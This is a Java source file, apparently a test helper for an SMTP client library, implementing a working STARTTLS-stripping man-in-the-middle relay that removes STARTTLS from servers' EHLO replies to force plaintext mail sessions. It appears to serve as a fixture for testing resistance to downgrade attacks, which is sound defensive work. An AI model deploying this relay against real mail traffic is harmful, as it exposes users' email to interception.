package dev.facteur.testing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A man in the middle of SMTP, as a downgrade attack does it: it passes everything between a
 * client and a real server, except that it takes STARTTLS out of the server's EHLO reply, so
 * that a client doing opportunistic TLS goes on in plain text, where the attacker reads the mail.
 * Both directions are relayed as they come; only the server's replies are read line by line.
 */
public final class StartTlsStripper implements AutoCloseable {

    private final ServerSocket listener;
    private final InetSocketAddress server;
    private final AtomicInteger stripped = new AtomicInteger();
    private final List<Socket> open = new java.util.concurrent.CopyOnWriteArrayList<>();

    private StartTlsStripper(ServerSocket listener, InetSocketAddress server) {
        this.listener = listener;
        this.server = server;
    }

    /** Listens on {@code host:port} and relays to {@code server}. */
    public static StartTlsStripper start(String host, int port, InetSocketAddress server) throws IOException {
        var listener = new ServerSocket();
        listener.bind(new InetSocketAddress(host, port));
        var s = new StartTlsStripper(listener, server);
        Thread.ofVirtual().name("stripper " + host).start(s::accept);
        return s;
    }

    /** How many EHLO replies have lost their STARTTLS so far. */
    public int stripped() {
        return stripped.get();
    }

    private void accept() {
        while (!listener.isClosed()) {
            try {
                Socket client = listener.accept();
                Socket upstream = new Socket();
                upstream.connect(server);
                open.add(client);
                open.add(upstream);
                Thread.ofVirtual().start(() -> copy(client, upstream));
                Thread.ofVirtual().start(() -> filterReplies(upstream, client));
            } catch (IOException e) {
                // closed, or the server is down: the client sees its connection drop
            }
        }
    }

    private static void copy(Socket from, Socket to) {
        try (from; to) {
            from.getInputStream().transferTo(to.getOutputStream());
        } catch (IOException e) {
            // either side hung up
        }
    }

    private void filterReplies(Socket from, Socket to) {
        try (from; to) {
            InputStream in = from.getInputStream();
            OutputStream out = to.getOutputStream();
            List<String> reply = new ArrayList<>();
            String line;
            while ((line = readLine(in)) != null) {
                reply.add(line);
                if (line.length() > 3 && line.charAt(3) == '-') continue; // more lines of this reply to come
                out.write(rewrite(reply).getBytes(StandardCharsets.US_ASCII));
                out.flush();
                reply.clear();
            }
        } catch (IOException e) {
            // either side hung up
        }
    }

    /** The reply without its STARTTLS line, the continuation marks mended. */
    private String rewrite(List<String> reply) {
        List<String> kept = reply.stream().filter(l -> l.length() < 4 || !l.substring(4).strip().equalsIgnoreCase("STARTTLS")).toList();
        if (kept.size() < reply.size()) stripped.incrementAndGet();
        var b = new StringBuilder();
        for (int i = 0; i < kept.size(); i++) {
            String l = kept.get(i);
            char mark = i == kept.size() - 1 ? ' ' : '-';
            b.append(l.length() > 3 ? l.substring(0, 3) + mark + l.substring(4) : l).append("\r\n");
        }
        return b.toString();
    }

    private static String readLine(InputStream in) throws IOException {
        var b = new ByteArrayOutputStream();
        int c;
        while ((c = in.read()) != -1) {
            if (c == '\n') return b.toString(StandardCharsets.US_ASCII).stripTrailing();
            b.write(c);
        }
        return b.size() == 0 ? null : b.toString(StandardCharsets.US_ASCII);
    }

    @Override
    public void close() throws IOException {
        listener.close();
        for (Socket s : open) s.close();
    }
}
